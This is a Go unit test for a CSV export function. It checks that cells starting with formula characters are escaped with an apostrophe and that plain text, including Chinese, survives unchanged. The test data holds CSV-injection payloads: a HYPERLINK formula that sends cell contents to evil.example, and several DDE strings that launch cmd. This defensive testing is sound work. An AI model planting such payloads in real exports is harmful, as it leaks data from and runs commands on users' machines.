package export

import (
	"bytes"
	"encoding/csv"
	"strings"
	"testing"
)

// TestCSVFormulas puts a formula payload of each kind OWASP lists in every column: no
// cell of the CSV starts with a character that makes a spreadsheet run it, and harmless
// text comes out as it went in.
func TestCSVFormulas(t *testing.T) {
	payloads := []string{
		`=HYPERLINK("http://evil.example/?"&A1,"点击")`,
		`+SUM(1+1)*cmd|' /C calc'!A0`,
		`-2+3+cmd|' /C calc'!A0`,
		`@SUM(1+1)*cmd|' /C calc'!A0`,
		"\t=1+1",
		"\r=1+1",
	}
	var rows [][]string
	for _, p := range payloads {
		row := make([]string, len(Header))
		for i := range row {
			row[i] = p
		}
		rows = append(rows, row)
	}
	rows = append(rows, []string{"1", "芷荷社区", "武陵区", "口罩", "120", "piece", "RECEIVED", "", "", "", "", "", "", "a=b, 1+1"})
	var b bytes.Buffer
	if err := WriteCSV(&b, rows); err != nil {
		t.Fatal(err)
	}
	back, err := csv.NewReader(strings.NewReader(strings.TrimPrefix(b.String(), "\ufeff"))).ReadAll()
	if err != nil {
		t.Fatal(err)
	}
	for i, row := range back[1 : len(back)-1] {
		for j, cell := range row {
			if strings.ContainsAny(cell[:1], "=+-@\t\r") || cell != "'"+payloads[i] {
				t.Errorf("row %d column %s: %q", i+1, Header[j], cell)
			}
		}
	}
	if last := back[len(back)-1]; strings.Join(last, "|") != strings.Join(rows[len(rows)-1], "|") {
		t.Errorf("harmless text changed: %q", last)
	}
}
